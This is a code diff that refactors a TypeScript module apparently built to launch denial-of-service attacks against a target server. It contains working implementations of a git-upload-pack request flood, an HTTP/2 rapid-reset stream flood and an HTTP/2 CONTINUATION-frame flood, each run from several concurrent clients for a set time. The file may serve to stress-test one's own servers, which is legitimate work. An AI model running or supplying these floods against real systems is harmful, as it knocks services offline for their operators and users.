@@ -95,70 +95,68 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     const want = (id: string) => `0032want ${id}\n`
     const id = () => aim.random.bytes(20).toString('hex')
     let asked = 0
-    const end = performance.now() + aim.milliseconds
-    const client = async () => {
-      while (performance.now() < end) {
-        const body = `${Array.from({ length: 2000 }, () => want(id())).join('')}00000009done\n`
-        const answer = await fetch(`${aim.url}/index.git/git-upload-pack`, {
-          method: 'POST',
-          headers: { 'content-type': 'application/x-git-upload-pack-request' },
-          body,
-        }).catch(() => null)
-        await answer?.arrayBuffer().catch(() => null)
-        asked++
-      }
-    }
-    await Promise.all(Array.from({ length: 16 }, client))
+    await repeat(aim, 16, async () => {
+      const body = `${Array.from({ length: 2000 }, () => want(id())).join('')}00000009done\n`
+      const answer = await fetch(`${aim.url}/index.git/git-upload-pack`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/x-git-upload-pack-request' },
+        body,
+      }).catch(() => null)
+      await answer?.arrayBuffer().catch(() => null)
+      asked++
+    })
     return `${asked} requests of 2,000 wants`
   },
   'HTTP/2 resets': async aim => {
     let streams = 0
-    const client = async () => {
-      const end = performance.now() + aim.milliseconds
-      while (performance.now() < end) {
-        const session = connectHttp2(aim.secureUrl, { rejectUnauthorized: false })
-        session.on('error', () => {})
-        for (let at = 0; at < 2000 && !session.closed && !session.destroyed; at++) {
-          const stream = session.request({ ':path': '/' })
-          stream.on('error', () => {})
-          stream.close(8)
-          streams++
-          if (at % 100 === 99) await sleep(1)
-        }
-        session.destroy()
+    await repeat(aim, 4, async () => {
+      const session = connectHttp2(aim.secureUrl, { rejectUnauthorized: false })
+      session.on('error', () => {})
+      for (let at = 0; at < 2000 && !session.closed && !session.destroyed; at++) {
+        const stream = session.request({ ':path': '/' })
+        stream.on('error', () => {})
+        stream.close(8)
+        streams++
+        if (at % 100 === 99) await sleep(1)
       }
-    }
-    await Promise.all([client(), client(), client(), client()])
+      session.destroy()
+    })
     return `${streams} streams`
   },
   'HTTP/2 CONTINUATION': async aim => {
-    const { hostname, port } = new URL(aim.secureUrl)
+    const { hostname: host, port } = new URL(aim.secureUrl)
+    const options = { host, port: Number(port), rejectUnauthorized: false, ALPNProtocols: ['h2'] }
     let frames = 0
-    const client = async () => {
-      const end = performance.now() + aim.milliseconds
-      while (performance.now() < end) {
-        const socket = connectTls({
-          host: hostname,
-          port: Number(port),
-          rejectUnauthorized: false,
-          ALPNProtocols: ['h2'],
-        })
-        socket.on('error', () => {})
-        socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
-        socket.write(frame(4, 0, 0, Buffer.alloc(0)))
-        // A header block that never ends.
-        socket.write(frame(1, 0, 1, Buffer.from([0x82])))
-        for (let at = 0; at < 2000 && !socket.destroyed && performance.now() < end; at++) {
-          socket.write(frame(9, 0, 1, Buffer.from(`\0\x01a\x7f\x00${'b'.repeat(127)}`, 'latin1')))
-          frames++
-          if (at % 50 === 49) await sleep(1)
-        }
-        socket.destroy()
+    await repeat(aim, 4, async isOver => {
+      const socket = connectTls(options)
+      socket.on('error', () => {})
+      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
+      socket.write(frame(4, 0, 0, Buffer.alloc(0)))
+      // A header block that never ends.
+      socket.write(frame(1, 0, 1, Buffer.from([0x82])))
+      for (let at = 0; at < 2000 && !socket.destroyed && !isOver(); at++) {
+        socket.write(frame(9, 0, 1, Buffer.from(`\0\x01a\x7f\x00${'b'.repeat(127)}`, 'latin1')))
+        frames++
+        if (at % 50 === 49) await sleep(1)
       }
-    }
-    await Promise.all([client(), client(), client(), client()])
+      socket.destroy()
+    })
     return `${frames} frames`
   },
+}
+
+/** Has clients do the same again and again until the attack is over. */
+async function repeat(
+  { milliseconds }: Aim,
+  clients: number,
+  work: (isOver: () => boolean) => Promise<void>,
+): Promise<void> {
+  const end = performance.now() + milliseconds
+  const isOver = () => performance.now() >= end
+  const client = async () => {
+    while (!isOver()) await work(isOver)
+  }
+  await Promise.all(Array.from({ length: clients }, client))
 }
 
 /** Sends the same request again and again on many connections, and reads the answers. */
